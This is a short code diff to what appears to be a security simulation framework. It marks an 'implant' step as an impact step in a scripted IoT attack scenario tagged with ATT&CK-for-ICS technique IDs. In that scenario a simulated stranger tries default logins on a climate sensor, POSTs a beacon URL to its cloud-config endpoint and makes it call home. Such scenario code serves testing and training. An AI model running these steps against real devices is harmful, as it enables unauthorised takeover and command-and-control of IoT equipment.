@@ -34,6 +34,7 @@ def _guess(ctx: Context) -> str:
 
 def _implant(ctx: Context) -> str:
     ctx.require_attack_allowed()
+    ctx.impact_begins()
     body = json.dumps({"url": BEACON}).encode()
     said = fetch(DEVICES["iot-climate"].address, iot.HTTP_PORT, "/api/cloud", method="POST", body=body,
                  headers=basic(*LOGINS[-1]), agent="Mozilla/4.0")  # fmt: skip
@@ -62,7 +63,7 @@ SCENARIO = Scenario(
         Step("guess", 8, "stranger", "tries six default logins on the sensor's web page", _guess, ("iot-climate",),
              ("T0883", "T0812"), hostile=True),
         Step("implant", 16, "stranger", "sets where the sensor reports to", _implant, ("iot-climate",),
-             ("T0812", "T0859"), hostile=True),
+             ("T0812", "T0859"), hostile=True, impact=True),
         Step("beacon", 18, "iot-climate", "calls home", _beacons, ("stranger",), ("T0869", "T0885"), hostile=True),
     ),
 )  # fmt: skip
